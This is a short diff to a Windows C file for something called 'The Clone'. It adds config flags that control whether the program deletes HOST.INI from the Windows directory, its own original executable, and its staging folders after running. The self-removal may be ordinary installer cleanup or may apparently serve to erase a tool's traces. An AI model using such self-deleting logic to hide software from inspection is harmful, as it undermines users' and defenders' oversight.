@@ -1,3 +1,4 @@
+// The Clone's removal of what was staged: HOST.INI, the executable, the staging folder, kvoptemp.
 #include "cleanup.h"
 
 #include <wchar.h>
@@ -5,8 +6,12 @@
 #include "../common/common.h"
 #include "../protected/protected.h"
 #include "../walk/walk.h"
+#include "selfclean_config.h"
 
 void DeleteHostIni() {
+    if (!SELFCLEAN_REMOVE_HOST_INI) {
+        return;
+    }
     static wchar_t windows[kPathSize];
     DWORD length = GetWindowsDirectoryW(windows, kPathSize);
     static wchar_t path[kPathSize];
@@ -177,7 +182,7 @@ static void LeaveInheritedFolder() {
 
 void RemoveStagingFolders() {
     const wchar_t* original = Arg(2);
-    const wchar_t* fixedFolder = FixedFolder(original);
+    const wchar_t* fixedFolder = SELFCLEAN_REMOVE_KVOPTEMP ? FixedFolder(original) : L"";
     LeaveInheritedFolder();
     if (!DeleteFileW(original)) {
         Trace("Cannot delete the original EXE\r\n");
